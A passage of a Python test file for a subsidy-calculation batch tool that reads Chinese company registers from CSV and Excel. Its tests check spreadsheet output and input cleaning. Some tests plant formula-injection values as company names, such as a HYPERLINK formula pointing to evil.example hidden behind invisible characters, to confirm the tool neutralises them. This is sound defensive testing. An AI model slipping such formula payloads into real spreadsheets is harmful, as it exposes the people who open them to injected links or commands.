    bj = {r[1].value: r for r in sheet if r[0].value == "beijing-robotics-2023"}
    up_to = '"up to "#,##0.00'
    assert (bj["total, exact"][5].value, bj["total, exact"][5].number_format) == (0, "#,##0.00")
    assert (bj["total, up to"][5].value, bj["total, up to"][5].number_format) == (25_200_000, up_to)
    [total] = [r for k, r in bj.items() if str(k).startswith("total (")]
    assert total[1].value.endswith("; counts the up-to ceilings")
    assert [(c.value, c.number_format) for c in total[5:8]] == [(25_200_000, up_to), (25_850_000, up_to),
                                                                (650_000, "#,##0.00")]
    first = bj["first_trial_product"]
    assert [(c.value, c.number_format) for c in first[5:8]] == [(2_000_000, up_to), (2_650_000, up_to),
                                                                (650_000, "#,##0.00")]
    # Nanchang: exact clauses whose outlay is a range (SPEC 9.2), then the ceilings, then the total
    nc = {r[1].value: r[5].value for r in sheet if r[0].value == "nanchang-electronic-information-2023"}
    b = report.budgets["nanchang-electronic-information-2023"]
    assert round(nc["total, exact (at least)"] * 100) == b.total_exact
    assert round(nc["total, exact (at most)"] * 100) == b.exact_max
    assert round(nc["total, up to"] * 100) == b.total_up_to
    # a clause whose basis is exact keeps the plain format
    exact = next(r for r in sheet if r[2].value == "exact" and r[5].value)
    assert exact[5].number_format == "#,##0.00"


def test_the_excel_row_limit_is_checked_before_writing(catalog, tmp_path, monkeypatch):
    monkeypatch.setattr(xlsxio, "XLSX_MAX_ROWS", 5)
    src = write_good(tmp_path / "a.csv", n=6)
    with pytest.raises(InputError, match="6 input rows make up to 6 result rows, more than the 5"):
        run_batch(src, tmp_path / "r.xlsx", catalog, BatchOptions(fmt="xlsx"))
    assert list(tmp_path.iterdir()) == [src]  # nothing was written, not even a temporary file
    run_batch(write_good(tmp_path / "b.csv", n=5), tmp_path / "r.xlsx", catalog, BatchOptions(fmt="xlsx"))


def test_blank_rows_below_the_data_do_not_count_against_the_excel_row_limit(catalog, tmp_path, monkeypatch):
    """A sheet formatted far below its data (its dimension says 1000 rows), or its CSV export (",,,," lines):
    only rows with a value can give result rows; a sheet that truly has too many is still refused."""
    openpyxl = pytest.importorskip("openpyxl")
    monkeypatch.setattr(xlsxio, "XLSX_MAX_ROWS", 50)
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(HEADER.split(","))
    for i in (1, 2):
        ws.append(good_row(i).split(","))
    for r in range(4, 1001):
        ws.cell(r, 4).number_format = "#,##0.00"
        ws.cell(r, 1).value = "  " if r % 2 else None
    wb.save(tmp_path / "formatted.xlsx")
    csv_export = tmp_path / "export.csv"
    csv_export.write_text(HEADER + "\n" + good_row(1) + "\n" + good_row(2) + "\n" + ",,,,,\n" * 997
                          + '"",,,"",,\n', encoding="utf-8")
    for src in (tmp_path / "formatted.xlsx", csv_export):
        report = run_batch(src, tmp_path / "r.xlsx", catalog, BatchOptions(fmt="xlsx", layout="long"))
        assert report.good_rows == 2 and report.output_rows == 2 * len(catalog.policies["wuhan-east-lake-software-2023"]
                                                                         .clauses)
    monkeypatch.setattr(xlsxio, "XLSX_MAX_ROWS", 20)  # two filled rows × the Wuhan clauses: too many now
    for src in (tmp_path / "formatted.xlsx", csv_export):
        with pytest.raises(InputError, match="2 input rows make up to"):
            run_batch(src, tmp_path / "s.xlsx", catalog, BatchOptions(fmt="xlsx", layout="long"))
        assert not (tmp_path / "s.xlsx").exists()


def test_the_filled_lines_are_counted_whatever_the_chunks(tmp_path):
    """batch._count_filled_lines against a plain count, for lines cut anywhere by the reads (1 to 64 bytes)."""
    import random
    import re

    from nanchang_incentives import batch

    rng = random.Random(13)
    src = tmp_path / "f.csv"
    for _ in range(200):
        parts = [rng.choice([b",,,", b"a,b", b"", b'"",""', b" ,\t", b"x" * rng.randint(0, 90)])
                 for _ in range(rng.randint(0, 30))]
        data = b"\n".join(parts) + rng.choice([b"", b"\n"])
        src.write_bytes(b"header\n" + data)
        lines = data.split(b"\n")[:-1] if data.endswith(b"\n") else data.split(b"\n")
        want = sum(1 for line in lines if re.search(rb'[^,\s"]', line))
        assert batch._count_filled_lines(src, 7, rng.randint(1, 64)) == want, data


def test_xlsx_to_stdout_is_refused(catalog, tmp_path):
    with pytest.raises(InputError, match="cannot be streamed"):
        run_batch(write_good(tmp_path / "a.csv"), "-", catalog, BatchOptions(fmt="xlsx"))


def test_cell_texts_of_stored_numbers():
    assert xlsxio.cell_text(0.0345, "0.00%", None) == "3.45%"
    assert xlsxio.cell_text(1234.56, "General", None) == "1234.56"
    assert xlsxio.cell_text(150000000.0, "#,##0", None) == "150000000"
    assert xlsxio.cell_text(True, "General", None) == "true"
    assert xlsxio._beyond_units(0.1 + 0.2) and not xlsxio._beyond_units(1234.5678)


@pytest.mark.parametrize("value, number_format, text", [
    (0.0345, "0.00%", "3.45%"), (0.0345, "[Blue]0.00%", "3.45%"), (0.0345, '0.00%" (1y)"', "3.45%"),
    (3.45, '0.00"%"', "3.45%"), (3.45, "0.00\\%", "3.45%"), (0.0345, '0.0000"%"', "0.0345%"),
    (3.45, "0.00_%", "3.45"), (3.45, '0.00;-0.00"%"', "3.45"), (-3.45, '0.00;-0.00"%"', "-3.45%"),
])
def test_a_percent_sign_scales_only_where_excel_scales(value, number_format, text):
    """Excel multiplies by 100 for a % in the format, not for a quoted "%" or an escaped \\% (shown as it is):
    the cell is read as the text the sheet shows, as its CSV export would hold it."""
    assert xlsxio.cell_text(value, number_format, None) == text


def test_a_rate_shown_with_a_literal_percent_is_read_as_shown(catalog, tmp_path):
    openpyxl = pytest.importorskip("openpyxl")
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(["name", "jurisdiction", "year", "industries", "revenue", "revenue_prev", "local_project_loans",
               "lpr_1y"])
    for name, rate, fmt in (("scaled", 0.0345, "0.00%"), ("quoted", 3.45, '0.00"%"'), ("escaped", 3.45, "0.00\\%"),
                            ("tiny", 0.0345, '0.0000"%"')):
        ws.append([name, "nanchang", 2024, "electronic-information", 3e8, 1.5e8, 1e8, rate])
        ws.cell(ws.max_row, 8).number_format = fmt
    wb.save(tmp_path / "rates.xlsx")
    run_batch(tmp_path / "rates.xlsx", tmp_path / "r.csv", catalog, BatchOptions())
    got = {r["name"]: r["loan_interest"] for r in read(tmp_path / "r.csv")}
    # 三(一): loans 1亿 × 50% × LPR; growth 3亿 − 1.5亿 ≥ 1亿. 3.45% -> 1,725,000.00 (under the 200万 cap),
    # the rate a quoted "0.0345%" shows -> 17,250.00 (not the 3.45% Excel would never show)
    assert got == {"scaled": "1725000.00", "quoted": "1725000.00", "escaped": "1725000.00", "tiny": "17250.00"}


def _sink(path: Path, blocks: list[list[list[str]]]) -> None:
    """Rows shaped like the wide layout (row, name, year, total, note) straight into the sink, block by block."""
    sink = xlsxio.XlsxSink(path, ["row", "name", "year", "total", "note"], ["total"],
                           headings=["row", "名称", "year", "total", "note"])
    for lines in blocks:
        buf = io.StringIO()
        csv.writer(buf, lineterminator="\r\n").writerows(lines)  # quotes a CR inside a cell
        sink.write(buf.getvalue().encode("utf-8"))
    sink.close()


def test_the_streamed_sheet_keeps_every_text_as_typed_and_is_well_formed_xml(tmp_path):
    import xml.etree.ElementTree as ET
    import zipfile

    openpyxl = pytest.importorskip("openpyxl")
    texts = ["A & B <有限公司>", "  spaces kept  ", "=SUM(A1:A9)", "'quoted\"", "line\nbreak\ttab", "末尾 "]
    blocks = [[[str(i + 1), t, "2024", "1234.56", "x"] for i, t in enumerate(texts)],
              [["7", "负数", "2025", "-0.01", ""], ["8", "零", "2024", "0.00", "esc\x1bcr\r_x0041_"]]]
    _sink(tmp_path / "s.xlsx", blocks)
    with zipfile.ZipFile(tmp_path / "s.xlsx") as zf:
        for name in zf.namelist():
            if name.endswith((".xml", ".rels")):
                ET.fromstring(zf.read(name))  # every part parses as XML 1.0
        sheet = zf.read("xl/worksheets/sheet1.xml").decode("utf-8")
    # control characters and a CR as the OOXML _xHHHH_ escape; a literal "_x0041_" guarded so Excel shows it
    assert "esc_x001B_cr_x000D__x005F_x0041_" in sheet
    assert '<dimension ref="A1:E9"/>' in sheet and '<autoFilter ref="A1:E9"/>' in sheet
    wb = openpyxl.load_workbook(tmp_path / "s.xlsx")
    assert wb.sheetnames == ["results", "budget"]
    ws = wb["results"]
    assert [c.value for c in ws[1]] == ["row", "名称", "year", "total", "note"]
    assert all(c.font.b for c in ws[1]) and ws.freeze_panes == "A2"
    assert [ws.cell(r, 2).value for r in range(2, 8)] == texts
    assert all(ws.cell(r, 2).data_type == "s" for r in range(2, 10))  # "=SUM(…)" is text, never a formula
    assert [ws.cell(r, 1).value for r in range(2, 10)] == list(range(1, 9))
    assert {ws.cell(r, 3).value for r in range(2, 10)} == {2024, 2025}
    assert (ws["D2"].value, ws["D8"].value, ws["D9"].value) == (1234.56, -0.01, 0)
    assert ws["D8"].number_format == "#,##0.00" and ws["A2"].number_format == "General"
    assert ws["E8"].value is None  # an empty cell is not written
    assert ws.column_dimensions["B"].width > ws.column_dimensions["A"].width  # fitted to the longest name


def test_an_empty_result_sheet_still_has_its_header_and_filter(tmp_path):
    openpyxl = pytest.importorskip("openpyxl")
    _sink(tmp_path / "e.xlsx", [])
    ws = openpyxl.load_workbook(tmp_path / "e.xlsx")["results"]
    assert ws.max_row == 1 and ws.auto_filter.ref == "A1:E2"  # as XlsxWriter wrote it: one row below the header


def test_widths_are_fitted_from_the_first_rows_only(tmp_path, monkeypatch):
    openpyxl = pytest.importorskip("openpyxl")
    monkeypatch.setattr(xlsxio, "WIDTH_SAMPLE", 2)
    _sink(tmp_path / "w.xlsx", [[["1", "a", "2024", "1.00", "x"], ["2", "b", "2024", "1.00", "x"]],
                                [["3", "a very long company name " * 3, "2024", "1.00", "x"]]])
    ws = openpyxl.load_workbook(tmp_path / "w.xlsx")["results"]
    assert ws.column_dimensions["B"].width < 15  # the long name in row 3 is past the sample
    assert ws.cell(4, 2).value == "a very long company name " * 3


def test_a_text_longer_than_an_excel_cell_is_cut_at_32767_characters(tmp_path):
    openpyxl = pytest.importorskip("openpyxl")
    _sink(tmp_path / "l.xlsx", [[["1", "名" * 40_000, "2024", "1.00", "x"]]])
    ws = openpyxl.load_workbook(tmp_path / "l.xlsx")["results"]
    assert ws["B2"].value == "名" * 32_767 and ws["E2"].value == "x"


def test_a_row_refused_for_what_only_a_workbook_holds_lists_its_other_problems_too(catalog, tmp_path):
    """Every problem at once: a formula with no saved result, a float finer than 1/10000 yuan (each such cell)
    and the row's ordinary bad cells, in one run."""
    openpyxl = pytest.importorskip("openpyxl")
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(["name", "jurisdiction", "year", "revenue", "rd_staff", "rd_expense", "revenue_prev"])
    ws.append(["A", WUHAN, 2024, 100.12345, -1, "abc", 100.123456])
    ws.append(["B", WUHAN, 2024, "=1+1", 3.5, "1万", "=2+2"])
    ws.append(["C", WUHAN, 2024, "100万", 1, "1万", "90万"])
    ws.append(["D", "上海", None, "=1+1", 1, "1万", "90万"])  # and the row-level checks: jurisdiction, year
    wb.save(tmp_path / "in.xlsx")
    report = run_batch(tmp_path / "in.xlsx", tmp_path / "o.csv", catalog, errors_path=tmp_path / "bad.csv")
    assert (report.good_rows, report.bad_rows) == (1, 3)
    with (tmp_path / "bad.csv").open(encoding="utf-8-sig") as f:
        found = list(csv.DictReader(f))
    assert [(r["field"]) for r in found if r["name"] == "D"] == ["jurisdiction", "year", "revenue"]
    got = [(r["name"], r["field"], r["message"][:28]) for r in found if r["name"] in "AB"]
    assert got == [("A", "revenue", "the cell holds a number with"), ("A", "rd_staff", "'-1' is negative; a count mu"),
                   ("A", "rd_expense", "'abc' is not an amount of mo"), ("A", "revenue_prev", "the cell holds a number with"),
                   ("B", "revenue", "the cell holds the formula ="), ("B", "rd_staff", "expected a whole number such"),
                   ("B", "revenue_prev", "the cell holds the formula =")]


def test_totals_labels_with_what_they_sum_are_totals_rows_in_every_format(catalog, tmp_path):
    # 合计（共2家）, 南昌合计, 以上合计, 共计, 小计（南昌）, ToTal, Total (25 companies): each was evaluated as a company
    # when 年度 and 所在地 were filled down, the sum of the others counted again; a company's name stays one
    # and a summary sheet's 其中：高新区 (the part of the sum above that is one district's), 总数, 平均值, Average: the
    # budget counted 4,650,000.00 for 1,550,000.00
    labels = ["合计（共2家）", "南昌合计", "以上合计", "共计", "小计（南昌）", "合计金额", "ToTal", "Total (25 companies)",
              "其中：高新区", "总数", "平均值", "Average", "其中：规上企业", "其中：高新技术企业", "其中: 科技型中小企业",
              "其中，专精特新企业", "其中：股份有限公司", "其中：有限责任公司", "其中：集团企业", "（其中：规上企业）", "其中/规上企业",
              "其中：孵化器（incubator）"]
    # (企业, 科技 after "其中：" name a kind of company, not one; a legal form does name one)
    companies = ["甲公司", "汇总科技有限公司", "Total Solutions", "南昌小计电子厂", "其中科技有限公司", "总数科技", "均胜电子",
                 "其中：南昌某某有限公司", "其中：Acme Inc"]
    text = "企业名称,所在地,年度,行业,营业收入\n" + "".join(f"{n},南昌,2024,电子信息,1亿\n" for n in companies + labels)
    src = tmp_path / "t.csv"
    src.write_text(text, encoding="utf-8")
    report = run_batch(src, tmp_path / "o.csv", catalog)
    shown = BAD_ROW_PREVIEW  # (the report lists the first few skipped rows, and counts them all)
    assert [k.name for k in report.skipped] == labels[:shown] and report.skipped_rows == len(labels)
    assert [r["name"] for r in read(tmp_path / "o.csv")] == companies
    openpyxl = pytest.importorskip("openpyxl")
    wb = openpyxl.Workbook()
    for line in text.splitlines():
        wb.active.append(line.split(","))
    wb.save(tmp_path / "t.xlsx")
    report = run_batch(tmp_path / "t.xlsx", tmp_path / "x.csv", catalog)
    assert [k.name for k in report.skipped] == labels[:shown] and report.skipped_rows == len(labels)
    assert [r["name"] for r in read(tmp_path / "x.csv")] == companies


def test_a_dash_from_an_excel_csv_export_is_an_empty_cell(catalog, tmp_path):
    # 会计专用 shows 0 as "-" and "CSV (逗号分隔)" saves " ￥-   " (" ￥2,500,000,000.00 " was read, its zero a bad
    # row); a typed "-" means none or n/a: which, the sheet cannot say, so it is no figure, never a 0 that passes a
    # condition (上年营业收入 0 would be growth of the whole revenue: the loan-interest subsidy granted)
    src = tmp_path / "acc.csv"
    src.write_bytes(("企业名称,所在地,年度,行业,营业收入,上年营业收入,在昌项目银行贷款,研发人员,一年期LPR\r\n"
                     '会计A有限公司,南昌,2024,电子信息," ￥2,500,000,000.00 ", ￥-   ,3亿, - ,￥-\r\n'
                     "会计B有限公司,南昌,2024,电子信息,25亿,-,3亿,－,-\r\n"
                     "会计C有限公司,南昌,2024,电子信息,25亿,,3亿,,\r\n"
                     "会计D有限公司,南昌,2024,电子信息,25亿,--,3亿,,\r\n").encode("gb18030"))
    report = run_batch(src, tmp_path / "o.csv", catalog)
    assert (report.good_rows, report.bad_rows) == (3, 1)
    [p] = report.problems
    assert (p.line, p.field, p.value) == (5, "revenue_prev", "--")
    out = {r["name"]: r for r in read(tmp_path / "o.csv")}
    assert [(out[n]["loan_interest"], out[n]["loan_interest_status"]) for n in ("会计A有限公司", "会计B有限公司")] == [
        ("0.00", "missing_input")] * 2 == [(out["会计C有限公司"]["loan_interest"], out["会计C有限公司"]["loan_interest_status"])] * 2
    assert read(tmp_path / "o.csv")[0] | {"row": "", "name": ""} == read(tmp_path / "o.csv")[2] | {"row": "", "name": ""}


def test_the_other_marks_of_none_are_empty_cells_and_none_words_get_advice(catalog, tmp_path):
    # — and —— (the usual Chinese "none"), – and a slash ("not applicable") were bad rows where "-" was an empty
    # cell; 无 / 暂无 / N/A stay bad rows (0 or unknown?), with that said instead of a list of number forms
    src = tmp_path / "none.csv"
    src.write_text("企业名称,所在地,年度,行业,营业收入,上年营业收入,在昌项目银行贷款,研发人员\n"
                   "甲,南昌,2024,电子信息,3亿,—,1000万,——\n乙,南昌,2024,电子信息,3亿,／,1000万,/\n"
                   "丙,南昌,2024,电子信息,3亿,–,1000万,\n丁,南昌,2024,电子信息,3亿,1亿,1000万,\n"
                   "戊,南昌,2024,电子信息,3亿,无,1000万,\n己,南昌,2024,电子信息,3亿,1亿,1000万,暂无\n"
                   "庚,南昌,2024,电子信息,3亿,N/A,1000万,\n", encoding="utf-8")
    report = run_batch(src, tmp_path / "o.csv", catalog)
    out = {r["name"]: r for r in read(tmp_path / "o.csv")}
    assert {n: (r["loan_interest"], r["loan_interest_status"]) for n, r in out.items()} == {
        "甲": ("0.00", "missing_input"), "乙": ("0.00", "missing_input"), "丙": ("0.00", "missing_input"),
        # 三(一): growth 2亿 ≥ 1亿: 1000万 × 50% × LPR 3.10% (2024) = 155,000.00
        "丁": ("155000.00", "granted")}
    assert [(p.line, p.name, p.field) for p in report.problems] == [
        (6, "戊", "revenue_prev"), (7, "己", "rd_staff"), (8, "庚", "revenue_prev")]
    assert all("type 0 if there is none, or leave the cell empty if it is not known" in p.message
               for p in report.problems)


def test_zero_width_characters_at_a_cells_ends_are_dropped(catalog, tmp_path):
    # copied from a web page or a PDF: "3亿\u200b" was an unknown unit '亿\u200b', the name kept its ZWSP
    src = tmp_path / "zw.csv"
    src.write_text("企业名称,所在地,年度,行业,营业收入,硅衬底LED销售额\n"
                   "甲,南昌,2024,电子信息\u200b,3亿\u200b,\ufeff1000万\u200b \n乙\u200b,南昌\u2060,2024,电子信息,3亿,1000万\n",
                   encoding="utf-8")
    report = run_batch(src, tmp_path / "o.csv", catalog)
    assert report.bad_rows == 0
    # 三(三): 1000万 × 10% = 1,000,000.00 each
    assert [(r["name"], r["si_led_sales"]) for r in read(tmp_path / "o.csv")] == [
        ("甲", "1000000.00"), ("乙", "1000000.00")]


def test_zero_width_characters_at_a_list_items_ends_are_dropped(catalog, tmp_path):
    # "600万;\u200b1200万" and "电子信息;\u200bLED": the second item was "not an amount" / an unknown tag
    src = tmp_path / "zw.csv"
    src.write_text("企业名称,所在地,年度,行业,销售收入,5G+智慧工厂投入\n"
                   "甲,南昌,2024,电子信息;\u200bLED,10亿,600万;\u200b1200万\u200b\n", encoding="utf-8")
    report = run_batch(src, tmp_path / "o.csv", catalog)
    assert report.bad_rows == 0
    # 三(四): each project × 50%, at most 500万 a project: 300万 + min(600万, 500万) = 8,000,000.00
    assert [(r["name"], r["smart_factory"]) for r in read(tmp_path / "o.csv")] == [("甲", "8000000.00")]


def test_zero_width_characters_in_a_toml_lists_items_are_dropped(catalog):
    from nanchang_incentives.money import UNITS_PER_YUAN
    from nanchang_incentives.profile import parse_values

    values = parse_values({"smart_factory_investments": ["600万", "\u200b1200万"]}, catalog.registry)
    assert values["smart_factory_investments"] == (6_000_000 * UNITS_PER_YUAN, 12_000_000 * UNITS_PER_YUAN)


def test_a_totals_label_in_the_first_column_of_a_row_without_a_name_is_a_totals_row(catalog, tmp_path):
    # registers that start with 所在地 (or 序号) put 合计 in the first column; the row was two bad rows ("no policy
    # for jurisdiction '合计'", "year missing"); a nameless row with a place in the first column stays a company
    text = ("所在地,企业名称,年度,行业,营业收入\n南昌,甲有限公司,2024,电子信息,25亿\n合计,,,,25亿\n"
            " 合  计 ,,2024,,25亿\n南昌,,2024,电子信息,1亿\n南昌,合计,2024,电子信息,25亿\n")
    src = tmp_path / "t.csv"
    src.write_text(text, encoding="utf-8")
    report = run_batch(src, tmp_path / "o.csv", catalog)
    assert [(k.line, k.name) for k in report.skipped] == [(3, "合计"), (4, "合  计"), (6, "合计")]
    assert (report.good_rows, report.bad_rows) == (2, 0)
    assert [r["row"] for r in read(tmp_path / "o.csv")] == ["1", "4"]
    assert_workbook_skips_the_same(catalog, tmp_path, text, report)
    assert read(tmp_path / "x.csv") == read(tmp_path / "o.csv")


def test_without_year_and_jurisdiction_columns_a_company_with_a_totals_word_in_its_name_is_kept(catalog, tmp_path):
    """Under --year and --policy a sheet needs neither column, so every row lacks them, and a company named
    小计算机有限公司 or 汇总天下科技 (or TotalEnergies) was silently dropped as a totals row; the totals rows stay skipped."""
    src = tmp_path / "t.csv"
    src.write_text("name,industries,revenue,revenue_prev,local_project_loans\n"
                   "小计算机有限公司,电子信息,5亿,3.8亿,120万\nTotalEnergies 中国,电子信息,5亿,3.8亿,120万\n"
                   "汇总天下科技,电子信息,5亿,3.8亿,120万\n合计,,15亿,11.4亿,360万\nTotal for Nanchang,,15亿,11.4亿,360万\n"
                   "Grand total - all firms,,15亿,11.4亿,360万\n全部企业合计,,15亿,11.4亿,360万\n"
                   "合计（共3家企业）,,15亿,11.4亿,360万\n", encoding="utf-8")
    options = BatchOptions(year=2024, policy_ids=("nanchang-electronic-information-2023",))
    report = run_batch(src, tmp_path / "o.csv", catalog, options)
    assert [(k.row, k.name) for k in report.skipped] == [
        (4, "合计"), (5, "Total for Nanchang"), (6, "Grand total - all firms"), (7, "全部企业合计"),
        (8, "合计（共3家企业）")]
    rows = read(tmp_path / "o.csv")
    assert [r["name"] for r in rows] == ["小计算机有限公司", "TotalEnergies 中国", "汇总天下科技"]
    # each is evaluated as the company it is: the figures of the same row under a plain name
    plain = tmp_path / "p.csv"
    plain.write_text("name,industries,revenue,revenue_prev,local_project_loans\n甲公司,电子信息,5亿,3.8亿,120万\n",
                     encoding="utf-8")
    run_batch(plain, tmp_path / "p_out.csv", catalog, options)
    (expected,) = read(tmp_path / "p_out.csv")
    assert float(expected["total"]) > 0
    for r in rows:
        assert {k: v for k, v in r.items() if k not in ("row", "name")} == \
            {k: v for k, v in expected.items() if k not in ("row", "name")}


def test_totals_labels_that_name_what_they_sum_are_skipped_with_year_and_place_filled_down(catalog, tmp_path):
    """合计（共2家企业）, 全部企业合计 and 全厂合计 hold a company word (企业, 厂) but are totals: the label ends the name or
    the company word is part of the count. With 年度 and 所在地 filled down they were evaluated as companies."""
    text, report = one_company_and(catalog, tmp_path, "合计（共2家企业）,南昌,2024,9万\n全部企业合计,南昌,2024,9万\n"
                                   "全厂合计,南昌,2024,9万\n南昌小计电子厂,南昌,2024,9万\n")
    assert [k.name for k in report.skipped] == ["合计（共2家企业）", "全部企业合计", "全厂合计"]
    assert [r["name"] for r in read(tmp_path / "o.csv")][-1] == "南昌小计电子厂"
    assert_workbook_skips_the_same(catalog, tmp_path, text, report)


def assert_workbook_skips_the_same(catalog, tmp_path, text: str, report) -> None:
    """The .xlsx of the CSV ``text`` (empty cells left empty) skips the same rows as the CSV's ``report``."""
    openpyxl = pytest.importorskip("openpyxl")
    wb = openpyxl.Workbook()
    for line in text.splitlines():
        wb.active.append([c or None for c in line.split(",")])
    wb.save(tmp_path / "t.xlsx")
    book = run_batch(tmp_path / "t.xlsx", tmp_path / "x.csv", catalog)
    assert [(k.row, k.name) for k in book.skipped] == [(k.row, k.name) for k in report.skipped]


def one_company_and(catalog, tmp_path, rows: str):
    """(the CSV text, batch's report) of a sheet of one good company followed by ``rows`` (name,jurisdiction,
    year,revenue)."""
    text = "name,jurisdiction,year,revenue\n" + good_row(1).rsplit(",", 2)[0] + "\n" + rows
    src = tmp_path / "t.csv"
    src.write_text(text, encoding="utf-8")
    return text, run_batch(src, tmp_path / "o.csv", catalog)


@pytest.mark.parametrize("lead", ["\u200b", "\ufeff", "\u2060", "\u200e", "\u202e", "\u00ad", " \u200b ", "\u061c",
                                  "\u2061", "\u2064", "\u034f"])
def test_a_formula_behind_an_invisible_character_is_guarded_too(catalog, tmp_path, lead):
    """A name pasted from a web page or a PDF may start with a zero-width character, a BOM, a bidi mark or a soft
    hyphen: a spreadsheet or a later CLEAN would still run what follows, so the cell is guarded."""
    src = tmp_path / "a.csv"
    with open(src, "w", newline="", encoding="utf-8") as f:
        w = csv.writer(f)
        w.writerow(["name", "jurisdiction", "year", "revenue"])
        w.writerow([lead + '=HYPERLINK("http://evil.example")', WUHAN, 2024, "1万"])
        w.writerow([lead + "@SUM(1+1)", WUHAN, 2024, "-1"])  # a bad row: its name goes to the errors file
        w.writerow(["南昌\u200b甲公司", WUHAN, 2024, "1万"])  # inside a name: nothing to guard
    run_batch(src, tmp_path / "o.csv", catalog, errors_path=tmp_path / "bad.csv")
    names = [r["name"] for r in read(tmp_path / "o.csv")]
    assert names[0].startswith("'") and names[0].endswith('=HYPERLINK("http://evil.example")')
    assert names[1] == "南昌\u200b甲公司"
    [error] = read(tmp_path / "bad.csv")
    # (a bidi mark is written out in the errors file, \u200e, as in every message: text, no formula either)
    assert (error["name"].startswith("'") or error["name"].startswith("\\u")) and error["name"].endswith("@SUM(1+1)")


@pytest.mark.parametrize("name", ["＝1+1", "＋1", "\u00a0=1+1", "\u3000@SUM(1)"])
def test_a_full_width_formula_character_or_a_trimmed_space_is_guarded(catalog, tmp_path, name):
    """＝ (an IME's full-width =) would become = after a half-width conversion; a no-break or ideographic space
    before = hides it from a plain check but not from a spreadsheet's TRIM."""
    src = tmp_path / "a.csv"
    with open(src, "w", newline="", encoding="utf-8") as f:
        w = csv.writer(f)
        w.writerow(["name", "jurisdiction", "year", "revenue"])
        w.writerow([name, WUHAN, 2024, "1万"])
    run_batch(src, tmp_path / "o.csv", catalog)
    [row] = read(tmp_path / "o.csv")
    assert row["name"].startswith("'") and row["name"].endswith(name.strip())


def test_the_xlsx_budget_sheet_speaks_chinese_with_lang_zh(catalog, tmp_path):
    """--lang zh gives the results sheet Chinese headings; the budget sheet beside it follows, and its ceilings
    read 最高 (still numbers)."""
    openpyxl = pytest.importorskip("openpyxl")
    src = Path(__file__).parent.parent / "samples" / "companies.csv"
    run_batch(src, tmp_path / "r.xlsx", catalog, BatchOptions(fmt="xlsx", lang="zh"))
    sheet = list(openpyxl.load_workbook(tmp_path / "r.xlsx")["budget"].iter_rows())
    assert [c.value for c in sheet[0]] == ["政策", "条款", "性质", "获得企业数", "其中封顶", "金额", "封顶前金额", "节省",
                                           "单项/条款封顶节省", "就高不就低节省", "企业上限节省", "列入企业数（酌情条款）",
                                           "金额至多（若最高限额条款低于上限给予）"]
    # a discretionary clause has no amount: nobody is "granted" it, the companies listed for a decision are counted
    listed = {r[1].value: (r[3].value, r[11].value) for r in sheet[1:]
              if r[0].value == "nanchang-electronic-information-2023"}
    assert listed["one_firm_one_policy"] == (0, 5) and listed["major_project_award"] == (0, 2)
    assert listed["loan_interest"] == (3, None)  # an amount clause: its companies are column 4's
    # the basis in Chinese, as the terminal's budget view under --lang zh (SPEC §3: a ceiling reads 最高)
    basis = {r[1].value: r[2].value for r in sheet[1:] if r[0].value == "nanchang-electronic-information-2023"}
    assert (basis["loan_interest"], basis["equity_investment"], basis["case_by_case"]) == ("确定", "最高", "酌情")
    bj = {r[1].value: r for r in sheet[1:] if r[0].value == "beijing-robotics-2023"}
    assert (bj["最高限额合计"][5].value, bj["最高限额合计"][5].number_format) == (25_200_000, '"最高 "#,##0.00')
    assert bj["确定金额合计"][5].value == 0
    [total] = [k for k in bj if str(k).startswith("合计（")]
    assert total == "合计（1家企业，1家有金额；企业上限适用于0家）；含最高额度（上限，非确定金额）"
    nc = {r[1].value for r in sheet[1:] if r[0].value == "nanchang-electronic-information-2023"}
    assert {"确定金额合计（至少）", "确定金额合计（至多）"} <= nc


def test_a_cell_openpyxl_cannot_parse_is_a_message_naming_the_line_not_a_traceback(catalog, tmp_path):
    """A number cell holding text (``<c t="n"><v>INF</v></c>``: no spreadsheet writes it, a hand-made or corrupt
    file may) raised openpyxl's ValueError through the whole CLI; in a data row or in the header row, it is now
    an InputError naming the file and the line, and nothing is written."""
    import re
    import zipfile

    openpyxl = pytest.importorskip("openpyxl")
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(["name", "jurisdiction", "year", "revenue"])
    for k in range(3):
        ws.append([f"R{k}", "nanchang", 2024, 1000])
    wb.save(tmp_path / "ok.xlsx")
    for ref, line in (("D3", 3), ("A1", 1)):
        src = tmp_path / f"bad-{ref}.xlsx"
        with zipfile.ZipFile(tmp_path / "ok.xlsx") as zin, zipfile.ZipFile(src, "w") as zout:
            for item in zin.infolist():
                data = zin.read(item.filename)
                if item.filename == "xl/worksheets/sheet1.xml":
                    data, n = re.subn(rf'<c r="{ref}"[^>]*?(?:/>|>.*?</c>)'.encode(),
                                      f'<c r="{ref}" t="n"><v>INF</v></c>'.encode(), data)
                    assert n == 1
                zout.writestr(item, data)
        with pytest.raises(InputError) as info:
            run_batch(src, tmp_path / "o.csv", catalog)
        assert info.value.location.line == line and info.value.location.file == str(src)
        assert info.value.message.startswith("this row of sheet 'Sheet' cannot be read (")
        assert "open it in Excel or WPS and save it again" in info.value.message
        assert not (tmp_path / "o.csv").exists()


def test_names_are_trimmed_of_full_width_and_no_break_spaces_as_calc_trims_them(catalog, tmp_path):
    # WPS leaves U+3000 after a name; a pasted web table U+00A0: the output name was written with it
    src = tmp_path / "w.csv"
    src.write_text("name,jurisdiction,year,revenue\n甲公司\u3000,nanchang,2024,1亿\n\u3000乙公司,nanchang,2024,1亿\n"
                   "丙\u00a0,nanchang,2024,1亿\n丁、,nanchang,2024,1亿\n\u00a0\u3000戊 \u3000,nanchang,2024,1亿\n",
                   encoding="utf-8")
    run_batch(src, tmp_path / "o.csv", catalog)
    assert [r["name"] for r in read(tmp_path / "o.csv")] == ["甲公司", "乙公司", "丙", "丁、", "戊"]
    assert ["甲公司\u3000".strip(), "\u00a0\u3000戊 \u3000".strip()] == ["甲公司", "戊"]  # as calc strips a name


def test_the_header_repeated_under_a_pasted_block_is_skipped_and_said(catalog, tmp_path):
    # two blocks pasted one under another, each with its header: the second header was a bad row with a problem
    # per column ("'营业收入' is not an amount of money" …); a company whose name starts with the heading stays
    head = "企业名称,所在地,年度,行业,营业收入,硅衬底LED销售额"
    text = (f"{head}\n甲,南昌,2024,电子信息,3亿,1000万\n{head}\n乙,南昌,2024,电子信息,3亿,1000万\n"
            " 企业名称 ,所在地,,,,\n企业名称有限公司,南昌,2024,电子信息,3亿,200万\n")
    src = tmp_path / "t.csv"
    src.write_text(text, encoding="utf-8")
